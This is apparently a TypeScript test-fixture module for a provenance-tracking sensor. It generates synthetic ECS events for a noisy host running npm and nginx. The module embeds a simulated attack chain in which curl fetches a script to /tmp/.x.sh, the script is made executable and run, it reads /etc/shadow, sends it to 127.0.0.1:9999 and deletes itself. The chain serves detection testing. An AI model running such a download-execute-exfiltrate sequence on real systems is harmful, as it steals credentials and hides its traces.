/**
 * Hand-made and synthetic sensor documents, shaped exactly like the sensor's (kibana-plugin/common/ecs.ts).
 *
 * `EventFactory` writes one event per call with a running clock and a per-host sequence, so a test reads like
 * the story it tells. `syntheticWorkload` builds a deterministic, noisy workload (a package install, a web
 * server, background daemons) with one attack chain inside it; benches can scale it up once the local store
 * exists, and tests use it to measure reduction with the attack path known in advance.
 */
import { datasetName, type EcsEvent, type EventAction } from '../ecs.ts';

export interface ProcRef {
  pid: number;
  entityId: string;
  name: string;
  executable: string;
  args: string[];
  start: string;
  parent?: ProcRef;
  cwd?: string;
}

type Dataset = 'process' | 'file' | 'network' | 'dns';

const CATEGORY: Record<Dataset, string> = { process: 'process', file: 'file', network: 'network', dns: 'network' };

export interface FactoryOptions {
  host?: string;
  /** ISO time of the first event */
  start?: string;
  /** clock advance per event, milliseconds (default 1) */
  stepMs?: number;
}

export class EventFactory {
  readonly events: EcsEvent[] = [];
  readonly host: string;
  private now: number;
  private seq = 0;
  private readonly stepMs: number;
  private fds = new Map<number, number>();

  constructor(opts: FactoryOptions = {}) {
    this.host = opts.host ?? 'host-1';
    this.now = Date.parse(opts.start ?? '2025-01-01T00:00:00.000Z');
    this.stepMs = opts.stepMs ?? 1;
  }

  /** Current clock, ISO. */
  get time(): string {
    return new Date(this.now).toISOString();
  }

  /** Moves the clock forward. */
  wait(ms: number): this {
    this.now += ms;
    return this;
  }

  /** Sets the clock to an absolute ISO time (never backwards). */
  at(iso: string): this {
    this.now = Math.max(this.now, Date.parse(iso));
    return this;
  }

  /** A process the sensor found running at start-up (event.kind state). */
  running(pid: number, executable: string, opts: { name?: string; args?: string[]; parent?: ProcRef; cwd?: string } = {}): ProcRef {
    const p = this.ref(pid, executable, opts.name, opts.args, opts.parent, opts.cwd);
    this.emit('process', 'already_running', p, { kind: 'state' });
    return p;
  }

  fork(parent: ProcRef, pid: number): ProcRef {
    const child: ProcRef = { ...parent, pid, entityId: this.entity(pid), start: this.time, parent, args: [...parent.args] };
    this.emit('process', 'fork', child);
    return child;
  }

  exec(p: ProcRef, executable: string, args: string[] = [executable], name?: string): ProcRef {
    p.executable = executable;
    p.args = args;
    p.name = (name ?? basename(executable)).slice(0, 15);
    this.emit('process', 'exec', p);
    return p;
  }

  /** fork + exec in one call (what a shell does for a command). */
  spawn(parent: ProcRef, pid: number, executable: string, args: string[] = [executable], name?: string): ProcRef {
    const child = this.fork(parent, pid);
    return this.exec(child, executable, args, name);
  }

  end(p: ProcRef, exitCode = 0): void {
    this.emit('process', 'end', p, {}, { process: { ...this.proc(p), end: this.time, exit_code: exitCode } });
  }

  /** prctl(PR_SET_NAME): no event of its own; the process's later events carry the new process.name. */
  rename(p: ProcRef, name: string): void {
    p.name = name.slice(0, 15);
  }

  open(p: ProcRef, path: string, flags: string[] = ['O_RDONLY'], opts: { outcome?: 'success' | 'failure'; fd?: number } = {}): EcsEvent {
    return this.emit('file', 'open', p, opts.outcome ? { outcome: opts.outcome } : {}, { file: fileOf(path), provmon: { open: { flags }, ...(opts.fd !== undefined ? { fd: opts.fd } : {}) } });
  }

  create(p: ProcRef, path: string): EcsEvent {
    return this.emit('file', 'creation', p, {}, { file: fileOf(path) });
  }

  /** Aggregated reads on one fd: `window` = [start, end] offsets in ms before now (default: a point). */
  read(p: ProcRef, path: string, bytes = 4096, window?: { start: string; end: string }): EcsEvent {
    return this.emit('file', 'read', p, window ? { start: window.start, end: window.end } : {}, { file: fileOf(path), provmon: { io: { count: 1, bytes } } });
  }

  write(p: ProcRef, path: string, bytes = 4096, window?: { start: string; end: string }): EcsEvent {
    return this.emit('file', 'write', p, window ? { start: window.start, end: window.end } : {}, { file: fileOf(path), provmon: { io: { count: 1, bytes } } });
  }

  /** Aggregated writes into a pipe or unix connection (`path` pipe:[n] / unix-socket:[id], as the sensor names it). */
  channelWrite(p: ProcRef, path: string, bytes = 512): EcsEvent {
    return this.emit('file', 'write', p, {}, { file: { path }, provmon: { io: { count: 1, bytes }, channel: channelOf(path) } });
  }

  channelRead(p: ProcRef, path: string, bytes = 512): EcsEvent {
    return this.emit('file', 'read', p, {}, { file: { path }, provmon: { io: { count: 1, bytes }, channel: channelOf(path) } });
  }

  /** open + read: what reading a whole small file looks like. */
  readFile(p: ProcRef, path: string, bytes = 4096): void {
    this.open(p, path, ['O_RDONLY', 'O_CLOEXEC']);
    this.read(p, path, bytes);
  }

  /** open(O_CREAT|O_TRUNC) + creation + write. */
  writeFile(p: ProcRef, path: string, bytes = 4096): void {
    this.open(p, path, ['O_WRONLY', 'O_CREAT', 'O_TRUNC']);
    this.create(p, path);
    this.write(p, path, bytes);
  }

  unlink(p: ProcRef, path: string): EcsEvent {
    return this.emit('file', 'deletion', p, {}, { file: fileOf(path) });
  }

  renameFile(p: ProcRef, from: string, to: string): EcsEvent {
    return this.emit('file', 'rename', p, {}, { file: fileOf(to), provmon: { file: { source_path: from } } });
  }

  chmod(p: ProcRef, path: string, mode: string): EcsEvent {
    return this.emit('file', 'permission_change', p, {}, { file: { ...fileOf(path), mode } });
  }

  listen(p: ProcRef, ip: string, port: number): EcsEvent {
    return this.emit('network', 'listen', p, {}, { source: { ip, port }, network: { transport: 'tcp', type: ipType(ip) } });
  }

  /** `local`: the client's own end, as the sensor reports it (what stitching joins the server's accept with). */
  connect(p: ProcRef, ip: string, port: number, opts: { fd?: number; domain?: string; outcome?: 'success' | 'failure'; error?: string; local?: { ip: string; port: number } } = {}): EcsEvent {
    const fd = opts.fd ?? this.nextFd(p);
    return this.emit('network', 'connection_attempted', p, opts.outcome ? { outcome: opts.outcome } : {}, {
      ...(opts.local ? { source: opts.local } : {}),
      destination: { ip, port, ...(opts.domain ? { domain: opts.domain } : {}) },
      network: { transport: 'tcp', type: ipType(ip), direction: 'egress' },
      provmon: { fd },
      ...(opts.error ? { error: { code: opts.error } } : {}),
    });
  }

  accept(p: ProcRef, peerIp: string, peerPort: number, local: { ip: string; port: number }, fd?: number): EcsEvent {
    return this.emit('network', 'connection_accepted', p, {}, {
      source: { ip: peerIp, port: peerPort },
      destination: local,
      network: { transport: 'tcp', type: ipType(peerIp), direction: 'ingress' },
      provmon: { fd: fd ?? this.nextFd(p) },
    });
  }

  send(p: ProcRef, ip: string, port: number, bytes: number, fd?: number): EcsEvent {
    return this.emit('network', 'send', p, {}, { destination: { ip, port }, provmon: { io: { count: 1, bytes }, ...(fd !== undefined ? { fd } : {}) } });
  }

  receive(p: ProcRef, ip: string, port: number, bytes: number, fd?: number): EcsEvent {
    return this.emit('network', 'receive', p, {}, { destination: { ip, port }, provmon: { io: { count: 1, bytes }, ...(fd !== undefined ? { fd } : {}) } });
  }

  dns(p: ProcRef, name: string, ips: string[]): EcsEvent {
    return this.emit('dns', 'lookup_result', p, {}, { dns: { type: 'answer', question: { name }, resolved_ip: ips } });
  }

  // ---------------------------------------------------------------------------------------------------------------

  private ref(pid: number, executable: string, name?: string, args?: string[], parent?: ProcRef, cwd?: string): ProcRef {
    return {
      pid,
      entityId: this.entity(pid),
      name: (name ?? basename(executable)).slice(0, 15),
      executable,
      args: args ?? [executable],
      start: this.time,
      ...(parent ? { parent } : {}),
      ...(cwd ? { cwd } : {}),
    };
  }

  /** Same scheme as the sensor (host, pid, start time): two processes with the same pid never share one. */
  private entity(pid: number): string {
    return `${this.host}-${pid}-${this.now}`;
  }

  private nextFd(p: ProcRef): number {
    const n = (this.fds.get(p.pid) ?? 2) + 1;
    this.fds.set(p.pid, n);
    return n;
  }

  private proc(p: ProcRef): NonNullable<EcsEvent['process']> {
    return {
      pid: p.pid,
      entity_id: p.entityId,
      name: p.name,
      executable: p.executable,
      args: p.args,
      args_count: p.args.length,
      start: p.start,
      ...(p.cwd ? { working_directory: p.cwd } : {}),
      ...(p.parent ? { parent: { pid: p.parent.pid, entity_id: p.parent.entityId, name: p.parent.name, executable: p.parent.executable } } : {}),
    };
  }

  private emit(
    dataset: Dataset,
    action: EventAction,
    p: ProcRef,
    event: Partial<EcsEvent['event']> = {},
    extra: Partial<EcsEvent> = {},
  ): EcsEvent {
    const ts = this.time;
    const seq = ++this.seq;
    const ev: EcsEvent = {
      '@timestamp': ts,
      event: {
        kind: 'event',
        category: [CATEGORY[dataset]],
        type: ['info'],
        action,
        outcome: 'success',
        dataset: datasetName(dataset),
        module: 'provmon',
        id: `${this.host}:${seq}`,
        sequence: seq,
        ...event,
      },
      host: { name: this.host, id: this.host },
      data_stream: { type: 'logs', dataset: datasetName(dataset), namespace: 'default' },
      process: this.proc(p),
      ...extra,
    };
    this.events.push(ev);
    this.now += this.stepMs;
    return ev;
  }
}

function basename(path: string): string {
  return path.slice(path.lastIndexOf('/') + 1);
}

function channelOf(path: string): { kind: 'pipe' | 'unix_socket'; id: string } {
  return { kind: path.startsWith('pipe:') ? 'pipe' : 'unix_socket', id: path.slice(path.indexOf('[') + 1, -1) };
}

function fileOf(path: string): { path: string; name: string; directory: string } {
  const i = path.lastIndexOf('/');
  return { path, name: path.slice(i + 1), directory: i <= 0 ? '/' : path.slice(0, i) };
}

function ipType(ip: string): 'ipv4' | 'ipv6' {
  return ip.includes(':') ? 'ipv6' : 'ipv4';
}

/** Small deterministic PRNG (mulberry32): same seed, same workload. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export interface WorkloadOptions {
  seed?: number;
  /** package-install child processes (each writes `filesPerPackage` files) */
  packages?: number;
  filesPerPackage?: number;
  /** web requests served by the daemon */
  requests?: number;
  /** shared libraries every new program maps */
  libraries?: number;
  /** include the attack chain */
  attack?: boolean;
}

export interface Workload {
  events: EcsEvent[];
  /** What a correct trace must find (present when `attack`). */
  attack?: {
    /** where the secret went: the POI for backward tracking */
    exfilEndpoint: { ip: string; port: number };
    /** the downloaded script: the POI for forward tracking */
    dropped: string;
    secret: string;
    downloader: ProcRef;
    payload: ProcRef;
    remover: ProcRef;
  };
}

/**
 * A noisy host: systemd, a shell, `npm ci` writing `packages × filesPerPackage` files (with libraries, locale and
 * configuration reads per process, and registry traffic), a web server answering `requests` requests (one unit
 * each), and — when `attack` — curl fetching a script from a local server, chmod +x, running it, the script
 * reading /etc/shadow, sending it to 127.0.0.1:9999 and removing itself, interleaved with the noise.
 */
export function syntheticWorkload(opts: WorkloadOptions = {}): Workload {
  const rnd = prng(opts.seed ?? 1);
  const packages = opts.packages ?? 20;
  const filesPerPackage = opts.filesPerPackage ?? 25;
  const requests = opts.requests ?? 20;
  const libraries = opts.libraries ?? 12;
  const f = new EventFactory({ start: '2025-03-01T09:00:00.000Z' });
  let pid = 1000;
  const nextPid = () => ++pid;
  const libs = Array.from({ length: libraries }, (_, i) => `/usr/lib/x86_64-linux-gnu/lib${['c', 'm', 'ssl', 'crypto', 'z', 'pthread', 'dl', 'stdc++', 'gcc_s', 'uv', 'nghttp2', 'brotli'][i % 12]}${i >= 12 ? i : ''}.so.${1 + (i % 3)}`);
  const startup = (p: ProcRef) => {
    f.readFile(p, '/etc/ld.so.cache', 30_000);
    for (const lib of libs) f.readFile(p, lib, 200_000);
    f.readFile(p, '/usr/lib/locale/locale-archive', 3_000_000);
    f.readFile(p, '/etc/nsswitch.conf', 500);
    f.readFile(p, '/proc/self/maps', 2000);
  };

  const systemd = f.running(1, '/usr/lib/systemd/systemd', { name: 'systemd', args: ['/sbin/init'] });
  const sshd = f.running(nextPid(), '/usr/sbin/sshd', { parent: systemd, args: ['/usr/sbin/sshd', '-D'] });
  const shell = f.running(nextPid(), '/usr/bin/bash', { parent: sshd, args: ['-bash'], name: 'bash', cwd: '/home/dev/proj' });

  // The web server: listens, then serves requests, each its own unit.
  const nginx = f.spawn(systemd, nextPid(), '/usr/sbin/nginx', ['/usr/sbin/nginx', '-g', 'daemon off;']);
  startup(nginx);
  f.readFile(nginx, '/etc/nginx/nginx.conf', 2000);
  f.listen(nginx, '0.0.0.0', 80);

  // npm ci
  const npm = f.spawn(shell, nextPid(), '/usr/bin/node', ['node', '/usr/bin/npm', 'ci']);
  startup(npm);
  f.rename(npm, 'npm ci'); // libuv's process.title
  f.readFile(npm, '/home/dev/proj/package-lock.json', 400_000);
  const registry = { ip: '104.16.2.35', port: 443 };
  f.dns(npm, 'registry.npmjs.org', [registry.ip]);

  const attack = opts.attack !== false;
  let story: Workload['attack'];
  const attackAt = Math.floor(packages / 2);

  for (let i = 0; i < packages; i++) {
    const name = `pkg-${i.toString(36)}`;
    const fd = 100 + i;
    f.connect(npm, registry.ip, registry.port, { fd, domain: 'registry.npmjs.org' });
    f.send(npm, registry.ip, registry.port, 600, fd);
    f.receive(npm, registry.ip, registry.port, 50_000 + Math.floor(rnd() * 500_000), fd);
    f.writeFile(npm, `/home/dev/.npm/_cacache/content-v2/sha512/${i.toString(16).padStart(2, '0')}/${name}`, 80_000);
    // an extractor per package (npm forks for lifecycle scripts and tar)
    const tar = f.spawn(npm, nextPid(), '/usr/bin/tar', ['tar', 'xzf', '-']);
    startup(tar);
    f.readFile(tar, `/home/dev/.npm/_cacache/content-v2/sha512/${i.toString(16).padStart(2, '0')}/${name}`, 80_000);
    for (let j = 0; j < filesPerPackage; j++) {
      const dir = j % 3 === 0 ? 'lib' : j % 3 === 1 ? 'dist' : 'types';
      f.writeFile(tar, `/home/dev/proj/node_modules/${name}/${dir}/file${j}.js`, 1000 + Math.floor(rnd() * 20_000));
    }
    f.end(tar);

    // web traffic interleaved
    for (let r = 0; r < Math.ceil(requests / packages); r++) {
      const peerPort = 40_000 + i * 10 + r;
      const rfd = 500 + i * 10 + r;
      f.accept(nginx, '10.0.0.7', peerPort, { ip: '10.0.0.2', port: 80 }, rfd);
      f.receive(nginx, '10.0.0.7', peerPort, 400, rfd);
      f.readFile(nginx, `/var/www/html/page${Math.floor(rnd() * 50)}.html`, 8000);
      f.send(nginx, '10.0.0.7', peerPort, 8400, rfd);
      f.write(nginx, '/var/log/nginx/access.log', 120);
    }

    if (attack && i === attackAt) {
      // curl fetches a script from a local server
      const curl = f.spawn(shell, nextPid(), '/usr/bin/curl', ['curl', '-so', '/tmp/.x.sh', 'http://127.0.0.1:8000/x.sh']);
      startup(curl);
      f.readFile(curl, '/etc/ssl/openssl.cnf', 12_000);
      f.connect(curl, '127.0.0.1', 8000, { fd: 5 });
      f.send(curl, '127.0.0.1', 8000, 90, 5);
      f.receive(curl, '127.0.0.1', 8000, 2400, 5);
      f.writeFile(curl, '/tmp/.x.sh', 2300);
      f.end(curl);
      const chmod = f.spawn(shell, nextPid(), '/usr/bin/chmod', ['chmod', '+x', '/tmp/.x.sh']);
      startup(chmod);
      f.chmod(chmod, '/tmp/.x.sh', '0755');
      f.end(chmod);
      // the script runs (bash on a shebang), reads the secret, sends it, removes itself
      const payload = f.spawn(shell, nextPid(), '/usr/bin/bash', ['/bin/bash', '/tmp/.x.sh'], '.x.sh');
      startup(payload);
      f.readFile(payload, '/tmp/.x.sh', 2300);
      f.readFile(payload, '/etc/shadow', 1400);
      f.connect(payload, '127.0.0.1', 9999, { fd: 7 });
      f.send(payload, '127.0.0.1', 9999, 1400, 7);
      const rm = f.spawn(payload, nextPid(), '/usr/bin/rm', ['rm', '-f', '/tmp/.x.sh']);
      startup(rm);
      f.unlink(rm, '/tmp/.x.sh');
      f.end(rm);
      f.end(payload);
      story = { exfilEndpoint: { ip: '127.0.0.1', port: 9999 }, dropped: '/tmp/.x.sh', secret: '/etc/shadow', downloader: curl, payload, remover: rm };
    }
  }
  f.writeFile(npm, '/home/dev/proj/node_modules/.package-lock.json', 400_000);
  f.end(npm);
  return story ? { events: f.events, attack: story } : { events: f.events };
}
